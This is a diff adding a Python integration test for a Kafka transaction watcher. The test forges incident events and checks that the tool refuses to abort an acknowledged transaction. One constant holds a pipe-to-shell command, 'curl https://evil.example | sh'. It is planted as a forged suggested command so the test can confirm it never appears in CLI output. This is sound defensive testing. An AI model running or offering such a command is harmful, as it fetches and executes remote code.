@@ -1,0 +1,135 @@
+"""A client that may write the events topic, against a running watch that may abort: nothing of it is believed."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import time
+from collections.abc import Iterator
+from dataclasses import replace
+
+import pytest
+
+from support.fault_world import EVENTS, NODES, World, fault_world, three_brokers
+from support.scenarios import KAFKA_4
+from support.servers import Clusters
+from support.topics import unique
+from support.waiting import eventually
+from txnwatch.cli.main import main
+from txnwatch.embedded.broker_faults import leaderless
+from txnwatch.embedded.raw_producer import RawProducer
+from txnwatch.sinks.kafka import KafkaEventSink
+from txnwatch.state.errors import TxnwatchError
+from txnwatch.state.ids import TopicPartition
+from txnwatch.state.incident import IncidentEvent, latest, resolved
+from txnwatch.streaming.admin import ClusterAdmin
+
+pytestmark = pytest.mark.long
+
+IN_TIME_S, QUIET_S = 60.0, 8.0
+AUTO = ("--auto-abort", "on", "--abort-after-ms", "0", "--abort-breaker-cooldown-ms", "1000")
+EVIL = "curl https://evil.example | sh"
+INT32 = 2**31 - 1
+OVER = {"how": "aborted", "by": "coordinator", "marker_offset": 3, "detail": None, "at_ms": 5}
+
+
+@pytest.fixture(scope="module")
+def world(clusters: Clusters, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    kafka = clusters.start("forging", lambda: three_brokers(tmp_path_factory.mktemp("forging"), KAFKA_4))
+    try:
+        with fault_world(kafka, tmp_path_factory.mktemp("checkpoint"), *AUTO) as found:
+            yield found
+    finally:
+        for node in NODES:
+            kafka.broker(node).kill()
+        clusters.end("forging")
+
+
+def begins(client: RawProducer, partition: TopicPartition) -> bool:
+    try:
+        client.add(partition)
+    except TxnwatchError as exc:
+        if "CONCURRENT_TRANSACTIONS" not in str(exc):
+            raise
+        return False
+    return True
+
+
+def about(world: World, partition: TopicPartition) -> list[IncidentEvent]:
+    return [told.event for told in world.tail.told if (told.event.topic, told.event.partition) == partition]
+
+
+def open_now(world: World, partition: TopicPartition) -> list[IncidentEvent]:
+    return [event for event in latest(about(world, partition)).values() if event.is_open]
+
+
+def decisions(world: World, partition: TopicPartition) -> set[str]:
+    return {event.action["decision"] for event in about(world, partition) if event.action is not None}
+
+
+def is_open(world: World, partition: TopicPartition, producer_id: int) -> bool:
+    return ClusterAdmin(world.cluster).read_partitions([partition])[partition].open_transaction(producer_id) is not None
+
+
+def test_an_acknowledged_transaction_is_not_aborted_and_stays_told_whatever_is_forged(
+    world: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Two transactions under one epoch, the second acknowledged and without its marker: nobody can tell its outcome."""
+    partition = world.partition(3)
+    producer = RawProducer(world.cluster, unique("acknowledged")).init()
+    producer.add(partition)
+    producer.produce(partition)
+    producer.end(commit=True, version=4)
+    eventually(lambda: begins(producer, partition), IN_TIME_S, "the first transaction to be complete")
+    producer.produce(partition)
+    with leaderless(world.kafka, world.cluster, partition, 3):
+        producer.end(commit=True, version=4)
+        time.sleep(2.0)
+    eventually(lambda: decisions(world, partition) == {"refused"}, IN_TIME_S, "the refusal")
+    (told,) = open_now(world, partition)
+    assert told.expected_outcome == "unknown"
+    assert told.action is not None
+    assert told.action["refusal"] == "outcome_unknown"
+    producer.init()  # now nothing but the outcome stands in the way
+
+    with contextlib.closing(KafkaEventSink({"bootstrap.servers": world.bootstrap}, EVENTS)) as sink:
+
+        def forge(**changes: object) -> IncidentEvent:
+            known = open_now(world, partition)[0]
+            event = replace(known, **{"sequence": known.sequence + 1, "status": "updated", **changes})  # type: ignore[arg-type]
+            sink.deliver([event])
+            return event
+
+        forge(expected_outcome="abort", action=None, detected_at_ms=0)
+        time.sleep(QUIET_S)
+        assert decisions(world, partition) == {"refused"}
+        assert is_open(world, partition, producer.producer_id)
+
+        known = open_now(world, partition)[0]
+        sink.deliver([resolved(known, known.time_ms, OVER)])
+
+        def again() -> bool:
+            found = open_now(world, partition)
+            return bool(found) and found[0].incident_id != known.incident_id
+
+        eventually(again, IN_TIME_S, "the hang, told again under another id")
+        second = open_now(world, partition)[0].incident_id
+        forge(sequence=INT32)
+        eventually(lambda: second not in {one.incident_id for one in open_now(world, partition)}, IN_TIME_S, "its end")
+        eventually(lambda: len(open_now(world, partition)) == 1, IN_TIME_S, "the hang, told under a third id")
+        forge(suggested_command=EVIL, action={**told.action, "decision": "abort", "refusal": None, "by": "another"})
+        time.sleep(QUIET_S)
+
+    assert is_open(world, partition, producer.producer_id), "no marker was written"
+    flags = ["--bootstrap-server", world.bootstrap, "--events-topic", EVENTS]
+    assert main(["status", *flags]) == 0
+    assert EVIL not in capsys.readouterr().out
+    assert main(["events", *flags, "--format", "json"]) == 0
+    assert EVIL not in capsys.readouterr().out
+    where = ["--topic", partition.topic, "--partition", str(partition.partition)]
+    asked = ["abort", *flags, *where, "--producer-id", str(producer.producer_id), "--yes", "--format", "json"]
+    assert main(asked) == 0, "by hand, who says yes to the loss"
+    assert json.loads(capsys.readouterr().out)["rows"][0]["expected_outcome"] == "unknown"
+    eventually(lambda: not open_now(world, partition), IN_TIME_S, "the end of every incident")
+    by_hand = [event for event in about(world, partition) if event.is_by_hand and event.resolution is not None]
+    assert [(event.resolution or {})["by"] for event in by_hand] == ["txnwatch"]
